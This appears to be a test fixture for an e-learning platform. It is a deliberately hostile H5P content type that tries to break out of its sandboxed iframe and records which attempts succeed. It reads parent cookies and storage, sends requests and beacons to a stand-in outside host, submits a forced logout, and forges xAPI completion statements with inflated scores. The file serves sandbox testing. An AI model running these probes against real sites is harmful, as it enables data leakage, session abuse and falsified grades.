// A content type that means harm: it tries whatever a script in the frame could try, and notes what came of it.
// `reached` is a hole. ELSEWHERE is put in by the test: a server that notes who asks.
var Training = window.Training || {};
window.Training = Training;
window.outcomes = {};

Training.Hostile = function () {
  H5P.EventDispatcher.call(this);
};
Training.Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
Training.Hostile.prototype.constructor = Training.Hostile;
Training.Hostile.prototype.attach = function ($container) {
  $container[0].innerHTML = '<button type="button">Go on</button>';
  attack();
};

const platform = H5PIntegration.bridge.host;
const elsewhere = "ELSEWHERE";

async function attempt(name, act) {
  try {
    window.outcomes[name] = (await act()) ? "reached" : "stopped";
  } catch (problem) {
    window.outcomes[name] = "stopped";
  }
}

function element(name, attributes) {
  return document.body.appendChild(Object.assign(document.createElement(name), attributes));
}

function fresh() {
  return element("iframe", {}).contentWindow;
}

function forge(change) {
  const iri = H5PIntegration.contents["cid-1"].url;
  const statement = {
    verb: { id: "http://adlnet.gov/expapi/verbs/completed" },
    object: { id: iri },
    result: { score: { raw: 5, max: 5 }, success: true, completion: true },
  };
  const message = { v: 1, nonce: H5PIntegration.bridge.nonce, type: "statement", statement, touches: 99 };
  window.parent.postMessage({ ...message, ...change(statement) }, "*");
}

async function attack() {
  const cookies = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
  await attempt("page around", () => window.parent.document.title);
  await attempt("top page", () => window.top.document.body);
  await attempt("frame element", () => window.frameElement);
  await attempt("cookies", () => cookies.get.call(document) !== undefined);
  await attempt("cookies of the page", () => window.parent.document.cookie !== undefined);
  await attempt("storage of the page", () => window.parent.localStorage);
  await attempt("storage by another frame", () => fresh().localStorage);
  await attempt("database", () => new Promise((done, fail) => {
    const asked = window.indexedDB.open("x");
    asked.onsuccess = () => done(true);
    asked.onerror = fail;
  }));
  await attempt("service worker", () => navigator.serviceWorker.register(`${platform}/static/x.js`));
  await attempt("top navigation", () => ((window.top.location.href = `${elsewhere}/top`), true));
  await attempt("window", () => window.open(`${elsewhere}/window`));
  await attempt("link to a window", () => (element("a", { href: `${elsewhere}/link`, target: "_blank" }).click(), false));
  await attempt("link to the top", () => (element("a", { href: `${elsewhere}/link`, target: "_top" }).click(), false));
  await attempt("fetch from the site", () => fetch(`${platform}/en/learn/`, { credentials: "include", mode: "no-cors" }));
  await attempt("post to the site", () =>
    fetch(`${platform}/en/learn/attempt/1/events/`, { method: "POST", body: "{}", credentials: "include", mode: "no-cors" }));
  await attempt("fetch elsewhere", () => fetch(`${elsewhere}/fetch`, { mode: "no-cors" }));
  await attempt("stream", () => new Promise((done, fail) => {
    const stream = new EventSource(`${elsewhere}/stream`);
    stream.onopen = () => done(true);
    stream.onerror = fail;
  }));
  await attempt("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket(`${elsewhere.replace("http", "ws")}/socket`);
    socket.onopen = () => done(true);
    socket.onerror = fail;
  }));
  await attempt("browser to browser", () => new window.RTCPeerConnection());
  await attempt("script in a worker", () => new Promise((done, fail) => {
    const source = `importScripts("${elsewhere}/worker.js"); postMessage(1)`;
    const worker = new Worker(URL.createObjectURL(new Blob([source])));
    worker.onmessage = () => done(true);
    worker.onerror = fail;
  }));
  // What came of these is known where they would arrive.
  navigator.sendBeacon(`${elsewhere}/beacon`, "who");
  element("img", { src: `${elsewhere}/picture` });
  element("script", { src: `${elsewhere}/script.js` });
  element("link", { rel: "stylesheet", href: `${elsewhere}/style.css` });
  element("link", { rel: "prefetch", href: `${elsewhere}/prefetch` });
  element("iframe", { src: `${elsewhere}/frame` });
  element("object", { data: `${elsewhere}/object` });
  element("video", { src: `${elsewhere}/video` });
  element("form", { action: `${elsewhere}/form`, method: "post" }).submit();
  element("form", { action: `${platform}/account/logout/`, method: "post" }).submit();
  element("form", { action: `${elsewhere}/form`, method: "post", target: "_top" }).submit();
  document.body.style.background = `url(${elsewhere}/background)`;
  // Nobody has touched anything yet, whatever these say.
  window.focus();
  document.querySelector("button").focus();
  forge(() => ({}));
  forge(() => ({}));
  forge(() => ({ nonce: "another" }));
  forge((statement) => ({ statement: { ...statement, object: { id: "urn:uuid:another" } } }));
  forge((statement) => ({ statement: { ...statement, result: { score: { raw: 9, max: 1 } } } }));
  forge((statement) => ({ statement: { ...statement, result: { response: "x".repeat(100000) } } }));
  forge(() => ({ type: "state", part: "0", data: "x".repeat(1000000) }));
  forge(() => ({ type: "size", height: 1e9 }));
  forge(() => ({ type: "done" }));
  window.outcomes.all = "tried";
}

window.leave = (address) => (window.location.href = address);
